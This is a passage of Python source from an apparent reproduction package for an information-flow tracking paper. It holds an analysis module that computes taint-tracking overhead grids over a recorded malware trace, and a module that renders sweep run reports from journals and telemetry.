    mean_kth_store_distances,
    store_to_last_load_distances,
    stores_between_loads,
    stores_in_window,
)
from repro.analysis.overhead import (
    OverheadGrid,
    UntaintingEffect,
    overhead_grids,
    taint_timelines,
    untainting_effect,
)
from repro.analysis.replay import (
    ReplayResult,
    SinkOutcome,
    replay,
    replay_with_provenance,
)
from repro.analysis.tracefile import (
    TraceFormatError,
    load_recorded_run,
    save_recorded_run,
)

__all__ = [
    "AccuracyGrid",
    "AccuracyReport",
    "AppRun",
    "Distribution",
    "OpcodeFrequency",
    "OverheadGrid",
    "ReplayResult",
    "SinkOutcome",
    "Table1Row",
    "TraceFormatError",
    "UntaintingEffect",
    "evaluate_app",
    "evaluate_suite",
    "kth_store_distances",
    "load_recorded_run",
    "load_store_distance_table",
    "load_to_load_distances",
    "mean_kth_store_distances",
    "measured_distance",
    "overhead_grids",
    "render_table1",
    "render_top_opcodes",
    "replay",
    "replay_with_provenance",
    "routine_for",
    "save_recorded_run",
    "store_to_last_load_distances",
    "stores_between_loads",
    "stores_in_window",
    "sweep",
    "taint_timelines",
    "top_opcodes",
    "untainting_effect",
]

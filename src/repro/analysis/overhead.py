"""Runtime-overhead metrics over tainting-window parameters (Figures 14-19).

The paper analyses a real malware trace (LGRoot) for: the maximum size of
tainted addresses (Figure 14), its growth over time (Figure 15), the
cumulative taint+untaint operation count (Figure 16), the number of
distinct ranges (Figure 17), and the effect of disabling untainting on
both (Figures 18 and 19).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Sequence, Tuple

import numpy as np

from repro.core.config import PIFTConfig
from repro.core.tracker import TimelinePoint
from repro.android.device import RecordedRun
from repro.analysis.replay import replay


@dataclass
class OverheadGrid:
    """One scalar metric over the (NI, NT) grid; rows are NT, columns NI."""

    window_sizes: List[int]
    propagation_caps: List[int]
    values: np.ndarray

    def at(self, window_size: int, propagation_cap: int) -> float:
        row = self.propagation_caps.index(propagation_cap)
        column = self.window_sizes.index(window_size)
        return float(self.values[row, column])

    def render(self, unit: str = "") -> str:
        lines = ["NT\\NI " + " ".join(f"{w:>8d}" for w in self.window_sizes)]
        for row, cap in enumerate(self.propagation_caps):
            cells = " ".join(
                f"{self.values[row, column]:8.0f}"
                for column in range(len(self.window_sizes))
            )
            lines.append(f"{cap:5d} {cells}")
        if unit:
            lines.append(f"(values in {unit})")
        return "\n".join(lines)


def overhead_grids(
    recorded: RecordedRun,
    window_sizes: Sequence[int] = range(1, 21),
    propagation_caps: Sequence[int] = range(1, 11),
    untainting: bool = True,
) -> Tuple[OverheadGrid, OverheadGrid]:
    """Figures 14 and 17: (max tainted bytes, max distinct ranges) grids."""
    sizes = np.zeros((len(propagation_caps), len(window_sizes)))
    counts = np.zeros((len(propagation_caps), len(window_sizes)))
    for row, cap in enumerate(propagation_caps):
        for column, window in enumerate(window_sizes):
            config = PIFTConfig(
                window_size=window, max_propagations=cap, untainting=untainting
            )
            stats = replay(recorded, config).stats
            sizes[row, column] = stats.max_tainted_bytes
            counts[row, column] = stats.max_range_count
    grid_args = (list(window_sizes), list(propagation_caps))
    return OverheadGrid(*grid_args, sizes), OverheadGrid(*grid_args, counts)


def taint_timelines(
    recorded: RecordedRun, configs: Sequence[PIFTConfig]
) -> Dict[PIFTConfig, List[TimelinePoint]]:
    """Figures 15 and 16: per-config evolution of tainted size and op count."""
    timelines: Dict[PIFTConfig, List[TimelinePoint]] = {}
    for config in configs:
        result = replay(recorded, config, record_timeline=True)
        timelines[config] = result.stats.timeline
    return timelines


@dataclass
class UntaintingEffect:
    """Figures 18/19: the same run with and without untainting."""

    config: PIFTConfig
    max_tainted_bytes_with: int
    max_tainted_bytes_without: int
    max_ranges_with: int
    max_ranges_without: int

    @property
    def size_reduction_factor(self) -> float:
        if not self.max_tainted_bytes_with:
            return float("inf")
        return self.max_tainted_bytes_without / self.max_tainted_bytes_with

    @property
    def range_reduction_factor(self) -> float:
        if not self.max_ranges_with:
            return float("inf")
        return self.max_ranges_without / self.max_ranges_with


def untainting_effect(
    recorded: RecordedRun, configs: Sequence[PIFTConfig]
) -> List[UntaintingEffect]:
    """Measure how much untainting shrinks taint state, per configuration."""
    effects: List[UntaintingEffect] = []
    for config in configs:
        with_stats = replay(recorded, config.with_untainting(True)).stats
        without_stats = replay(recorded, config.with_untainting(False)).stats
        effects.append(
            UntaintingEffect(
                config=config,
                max_tainted_bytes_with=with_stats.max_tainted_bytes,
                max_tainted_bytes_without=without_stats.max_tainted_bytes,
                max_ranges_with=with_stats.max_range_count,
                max_ranges_without=without_stats.max_range_count,
            )
        )
    return effects

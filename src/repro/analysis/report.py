"""Post-hoc run reports: join a sweep journal with its telemetry stream.

``repro report <run-id>`` answers "what did that run actually do?" after
the fact, from persisted artifacts alone: the
:class:`~repro.store.RunJournal` (which cells finished, how long each
took, which worker pid evaluated it) and — when the run was telemetered —
the flight-recorder stream saved next to it
(``<store>/journals/<run-id>.telemetry.jsonl``), which adds relay
attribution (pid → relay worker id), heartbeat/stall history, drop
counts, and the final metric snapshot (store hits/misses).

:func:`build_run_report` produces the machine form (the ``--json``
document CI schema-freezes); :func:`render_run_report` the human tables.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence


def _worker_ids_by_pid(records: Sequence[dict]) -> Dict[int, int]:
    """pid → relay worker id, from worker_start/heartbeat records."""
    mapping: Dict[int, int] = {}
    for record in records:
        pid = record.get("pid")
        worker = record.get("worker_id")
        if pid is not None and worker:
            mapping.setdefault(int(pid), int(worker))
    return mapping


def _run_metrics(records: Sequence[dict]) -> Optional[dict]:
    """The final metric snapshot trailer, if the stream carries one."""
    for record in reversed(list(records)):
        if record.get("type") == "run_metrics":
            return record.get("metrics")
    return None


def _metric_value(snapshot: Optional[dict], family: str, name: str):
    if not snapshot:
        return None
    entry = snapshot.get(family, {}).get(name)
    return entry.get("value") if isinstance(entry, dict) else None


def build_run_report(
    journal,
    telemetry_records: Optional[Sequence[dict]] = None,
    slowest: int = 5,
) -> dict:
    """Reconstruct a run summary from journal + (optional) telemetry.

    Everything per-cell and per-worker comes from the journal; the
    telemetry stream, when present, contributes wall clock, relay worker
    ids, span/heartbeat/stall accounting, drop counts, and store
    traffic.  Workers are keyed by the pid the journal recorded.
    """
    rows = journal.cell_rows()
    records = list(telemetry_records or [])

    wall_seconds = None
    for record in records:
        if record.get("type") == "sweep_done":
            duration_us = record.get("duration_us")
            if duration_us is not None:
                wall_seconds = float(duration_us) / 1e6
    worker_ids = _worker_ids_by_pid(records)

    per_worker: Dict[str, dict] = {}
    for row in rows:
        pid = row["worker"]
        entry = per_worker.setdefault(
            str(pid),
            {
                "pid": pid,
                "worker_id": worker_ids.get(pid),
                "cells": 0,
                "events_tracked": 0,
                "busy_seconds": 0.0,
            },
        )
        entry["cells"] += 1
        entry["events_tracked"] += row["events_tracked"]
        entry["busy_seconds"] += row["duration_seconds"]
    for entry in per_worker.values():
        entry["busy_seconds"] = round(entry["busy_seconds"], 6)
        entry["utilization"] = (
            round(entry["busy_seconds"] / wall_seconds, 4)
            if wall_seconds
            else None
        )

    slowest_cells = sorted(
        rows, key=lambda row: row["duration_seconds"], reverse=True
    )[: max(slowest, 0)]

    telemetry_block = None
    if records:
        cell_spans = [
            record
            for record in records
            if record.get("type") == "span"
            and record.get("name") == "sweep.cell"
        ]
        stalls = [
            {
                "worker_id": record.get("worker_id"),
                "pid": record.get("pid"),
                "cell_index": record.get("cell_index"),
                "quiet_seconds": record.get("quiet_seconds"),
            }
            for record in records
            if record.get("type") == "worker_stall"
        ]
        dropped = 0
        for record in records:
            if record.get("type") == "relay_summary":
                dropped = record.get("dropped_events", 0)
        snapshot = _run_metrics(records)
        telemetry_block = {
            "events": len(records),
            "cell_spans": len(cell_spans),
            "heartbeats": sum(
                1 for record in records if record.get("type") == "heartbeat"
            ),
            "stalls": stalls,
            "worker_stalls": _metric_value(
                snapshot, "sweep", "sweep.worker.stalls"
            ),
            "dropped_events": dropped,
            "store_hits": _metric_value(snapshot, "store", "store.hits"),
            "store_misses": _metric_value(snapshot, "store", "store.misses"),
        }

    # Colour attribution, aggregated across colour-on cells: each such
    # cell carries a full per-source leak table for its (NI, NT) point;
    # the run-level view folds them — per colour, every app it ever
    # reached and the total attributed sink hits over all cells.
    colour_attribution = None
    coloured_cells = [row for row in rows if row.get("colours")]
    if coloured_cells:
        folded: Dict[str, dict] = {}
        for row in coloured_cells:
            for entry in row["colours"].get("colours", []):
                bucket = folded.setdefault(
                    entry["colour"],
                    {"colour": entry["colour"], "apps": [], "sink_hits": 0},
                )
                for app in entry.get("apps", []):
                    if app not in bucket["apps"]:
                        bucket["apps"].append(app)
                bucket["sink_hits"] += entry.get("sink_hits", 0)
        colour_attribution = {
            "cells": len(coloured_cells),
            "colours": list(folded.values()),
        }

    poisoned = journal.poison_rows() if hasattr(journal, "poison_rows") else []
    retried = (
        {
            str(index): len(records_for_cell)
            for index, records_for_cell in sorted(journal.attempts.items())
        }
        if getattr(journal, "attempts", None)
        else {}
    )

    return {
        "run_id": journal.run_id,
        "fingerprint": journal.fingerprint,
        "cells_total": journal.total_cells,
        "cells_completed": len(rows),
        "cells_poisoned": len(poisoned),
        "poisoned": poisoned,
        "retried_cells": retried,
        "wall_seconds": wall_seconds,
        "per_cell": rows,
        "per_worker": per_worker,
        "slowest_cells": slowest_cells,
        "colour_attribution": colour_attribution,
        "telemetry": telemetry_block,
    }


def _table(headers: List[str], rows: List[List[str]]) -> List[str]:
    """Minimal fixed-width table lines (headers + aligned rows)."""
    widths = [len(header) for header in headers]
    for row in rows:
        for position, value in enumerate(row):
            widths[position] = max(widths[position], len(value))
    def fmt(row):
        return "  ".join(
            value.ljust(widths[position])
            for position, value in enumerate(row)
        ).rstrip()
    return [fmt(headers), fmt(["-" * width for width in widths])] + [
        fmt(row) for row in rows
    ]


def render_run_report(report: dict) -> str:
    """The human-readable form of :func:`build_run_report`'s document."""
    lines = [
        f"run {report['run_id']}: "
        f"{report['cells_completed']}/{report['cells_total']} cells"
        + (
            f" ({report['cells_poisoned']} poisoned)"
            if report.get("cells_poisoned")
            else ""
        )
        + (
            f", {report['wall_seconds']:.2f}s wall"
            if report["wall_seconds"] is not None
            else ""
        )
    ]
    for cell in report.get("poisoned", []):
        lines.append(
            f"poisoned: cell {cell['index']} after {cell['attempts']} "
            f"attempts"
            + (f" ({cell['error']})" if cell.get("error") else "")
        )
    retried = report.get("retried_cells") or {}
    if retried:
        total = sum(retried.values())
        lines.append(
            f"retries: {total} across cells "
            f"{', '.join(sorted(retried, key=int))}"
        )

    lines.append("")
    lines.append("per-worker:")
    worker_rows = []
    for key in sorted(report["per_worker"], key=int):
        entry = report["per_worker"][key]
        worker_rows.append(
            [
                str(entry["worker_id"]) if entry["worker_id"] else "-",
                str(entry["pid"]),
                str(entry["cells"]),
                f"{entry['busy_seconds']:.3f}",
                (
                    f"{entry['utilization'] * 100:.0f}%"
                    if entry["utilization"] is not None
                    else "-"
                ),
                str(entry["events_tracked"]),
            ]
        )
    lines.extend(
        _table(
            ["worker", "pid", "cells", "busy_s", "util", "events"],
            worker_rows,
        )
    )

    lines.append("")
    lines.append("slowest cells:")
    cell_rows = [
        [
            str(row["index"]),
            str(row["ni"]),
            str(row["nt"]),
            f"{row['rate']:g}" if row["rate"] is not None else "-",
            (
                f"{row['accuracy'] * 100:.1f}%"
                if row.get("accuracy") is not None
                else "-"
            ),
            f"{row['duration_seconds']:.3f}",
            str(row["worker"]),
        ]
        for row in report["slowest_cells"]
    ]
    lines.extend(
        _table(
            ["cell", "ni", "nt", "rate", "accuracy", "seconds", "pid"],
            cell_rows,
        )
    )

    attribution = report.get("colour_attribution")
    if attribution:
        lines.append("")
        lines.append(
            f"leak attribution ({attribution['cells']} coloured cells):"
        )
        lines.extend(
            _table(
                ["colour", "apps", "sink hits"],
                [
                    [
                        entry["colour"],
                        str(len(entry["apps"])),
                        str(entry["sink_hits"]),
                    ]
                    for entry in attribution["colours"]
                ],
            )
        )

    telemetry = report.get("telemetry")
    if telemetry is not None:
        lines.append("")
        lines.append(
            f"telemetry: {telemetry['events']} events, "
            f"{telemetry['cell_spans']} cell spans, "
            f"{telemetry['heartbeats']} heartbeats, "
            f"{telemetry['dropped_events']} dropped"
            + (
                f", {telemetry['worker_stalls']:g} worker stalls"
                if telemetry.get("worker_stalls")
                else ""
            )
        )
        if telemetry["store_hits"] is not None:
            lines.append(
                f"store: {telemetry['store_hits']} hits, "
                f"{telemetry['store_misses']} misses"
            )
        for stall in telemetry["stalls"]:
            lines.append(
                f"stall: worker {stall['worker_id']} "
                f"(pid {stall['pid']}) on cell {stall['cell_index']} "
                f"quiet {stall['quiet_seconds']}s"
            )
    return "\n".join(lines)
